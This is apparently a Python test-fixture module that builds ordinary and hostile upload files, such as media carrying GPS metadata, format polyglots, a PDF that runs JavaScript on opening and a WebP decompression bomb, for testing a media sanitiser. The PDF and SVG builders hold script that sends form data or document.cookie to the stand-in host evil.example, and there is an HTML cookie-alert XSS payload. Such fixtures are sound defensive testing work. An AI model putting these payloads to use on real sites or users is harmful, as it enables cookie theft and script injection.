"""Hostile and ordinary files, made by the tests themselves (no binary fixtures)."""
from __future__ import annotations

import io
import struct
from typing import Any

from PIL import Image

GPS = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}
COORDINATES = b"48.858093,2.294694"
GPS_TAG = 0x8825


def jpeg(size: tuple[int, int] = (64, 48), gps: bool = False, quality: int = 85) -> bytes:
    """A real JPEG; with ``gps``, its EXIF carries a location, as phone photos do."""
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if gps:
        exif[GPS_TAG] = dict(GPS)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality, exif=exif)
    return out.getvalue()


def png(size: tuple[int, int] = (32, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (0, 90, 200)).save(out, "PNG")
    return out.getvalue()


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def full_box(kind: bytes, payload: bytes, version: int = 0) -> bytes:
    return box(kind, bytes([version, 0, 0, 0]) + payload)


def _track(handler: bytes, gps: bool) -> bytes:
    hdlr = full_box(b"hdlr", b"\x00" * 4 + handler + b"\x00" * 12 + b"Handler\x00")
    stbl = box(b"stbl", full_box(b"stco", struct.pack(">II", 1, 64)))
    minf = box(b"minf", box(b"dinf", b"") + stbl)
    udta = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", 18, 0) + b"+" + COORDINATES)) if gps else b""
    return box(b"trak", full_box(b"tkhd", b"\x00" * 80) + box(b"mdia", full_box(b"mdhd", b"\x00" * 20) + hdlr + minf)
               + udta)


def mp4(mdat_bytes: int = 1024, gps: bool = True, brand: bytes = b"mp42", extra_track: bytes | None = None,
        moov_first: bool = True) -> bytes:
    """A structurally real MP4 (ftyp, moov with mvhd and a video track, mdat); with ``gps`` it
    carries a QuickTime location atom (``moov/udta/©xyz``), Apple's location key (``moov/meta``)
    and an XMP ``uuid`` box, as phone videos do."""
    ftyp = box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand + b"isom")
    tracks = _track(b"vide", gps) + _track(b"soun", False) + (_track(extra_track, False) if extra_track else b"")
    meta = b""
    if gps:
        keys = full_box(b"keys", struct.pack(">I", 1) + box(b"mdta", b"com.apple.quicktime.location.ISO6709"))
        ilst = box(b"ilst", box(b"\x00\x00\x00\x01", box(b"data", b"\x00\x00\x00\x01\x00\x00\x00\x00+" + COORDINATES)))
        meta = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", 18, 0) + b"+" + COORDINATES)) \
            + box(b"meta", full_box(b"hdlr", b"\x00" * 4 + b"mdta" + b"\x00" * 13) + keys + ilst)
    moov = box(b"moov", full_box(b"mvhd", b"\x00" * 96) + tracks + meta)
    xmp = box(b"uuid", bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC") + b"<x:xmpmeta>" + COORDINATES) if gps else b""
    mdat = box(b"mdat", bytes(range(256)) * (mdat_bytes // 256) + b"\x00" * (mdat_bytes % 256))
    return ftyp + (moov + mdat if moov_first else mdat + moov) + xmp


def html_with_ftyp() -> bytes:
    """HTML that a 4-byte signature check takes for a video: ``ftyp`` at offset 4."""
    return b"<!--ftypmp42-->\n<html><script>alert(document.cookie)</script></html>\n"


def executable_with_ftyp() -> bytes:
    return b"MZ\x90\x00ftypisom" + b"\x00" * 48 + b"This program cannot be run in DOS mode.\r\n" + b"\x00" * 256


def pdf_with_javascript() -> bytes:
    """A one-page PDF that runs JavaScript when opened, with an embedded file and metadata."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", b"MZ not really")
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/steal')")})
    names: Any = writer._root_object["/Names"]  # noqa: SLF001 - made by add_attachment
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("steal"), writer._add_object(script)])})  # noqa: SLF001
    writer.add_metadata({"/Author": "Seller's phone", "/Location": COORDINATES.decode()})
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({  # noqa: SLF001
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(2)")})})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def jpeg_with_comment(size: tuple[int, int] = (300, 200)) -> bytes:
    """A JPEG whose COM segment holds coordinates, besides EXIF GPS."""
    exif = Image.Exif()
    exif[0x8825] = GPS
    out = io.BytesIO()
    Image.new("RGB", size, (120, 10, 10)).save(out, "JPEG", exif=exif, comment=b"taken at " + COORDINATES)
    return out.getvalue()


def webp_bomb() -> bytes:
    """The ~90-byte lossless WebP of 8000 x 8000 pixels with an EXIF rotation."""
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", (8000, 8000)).save(out, "WEBP", lossless=True, exif=exif)
    return out.getvalue()


def big_rotated(fmt: str, size: tuple[int, int] = (8000, 8000)) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", size, (40, 80, 120)).save(out, fmt, exif=exif)
    return out.getvalue()


def svg_named_png() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b'<script>fetch("https://evil.example/"+document.cookie)</script></svg>')


def plain_jpeg(size: tuple[int, int] = (64, 48), shade: int = 200) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (shade, 200, 30)).save(out, "JPEG", quality=85)
    return out.getvalue()


def same_size_other_jpeg(data: bytes) -> bytes:
    """Another plain JPEG of exactly the same length as ``data`` (the size a slot announced)."""
    size = Image.open(io.BytesIO(data)).size
    for shade in range(256):
        other = plain_jpeg(size, shade)
        if len(other) == len(data) and other != data:
            return other
    raise AssertionError("no other picture of the same length")


FTYP = box(b"ftyp", b"mp42\x00\x00\x02\x00mp42isom")
MVHD = full_box(b"mvhd", b"\x00" * 96)


def many_boxes_mp4(count: int, total_bytes: int | None = None, inside_moov: bool = False) -> bytes:
    """ftyp, moov (mvhd) and ``free`` boxes: ``count`` boxes in all, the ``free`` ones all at the top
    level or all in the movie box, each 8 bytes or, with ``total_bytes``, as large as makes the file
    that size. ``many_boxes_mp4(video.MAX_BOXES, 50 * MIB, inside_moov=True)`` is the worst video
    accepted: the most boxes, each one blanked, in the largest file."""
    n = count - 3
    head = len(FTYP) + 8 + len(MVHD)
    each = 8 if total_bytes is None else (total_bytes - head) // n
    last = each if total_bytes is None else total_bytes - head - each * (n - 1)
    frees = (struct.pack(">I4s", each, b"free") + b"\x01" * (each - 8)) * (n - 1) \
        + struct.pack(">I4s", last, b"free") + b"\x01" * (last - 8)
    return FTYP + box(b"moov", MVHD + frees) if inside_moov else FTYP + box(b"moov", MVHD) + frees
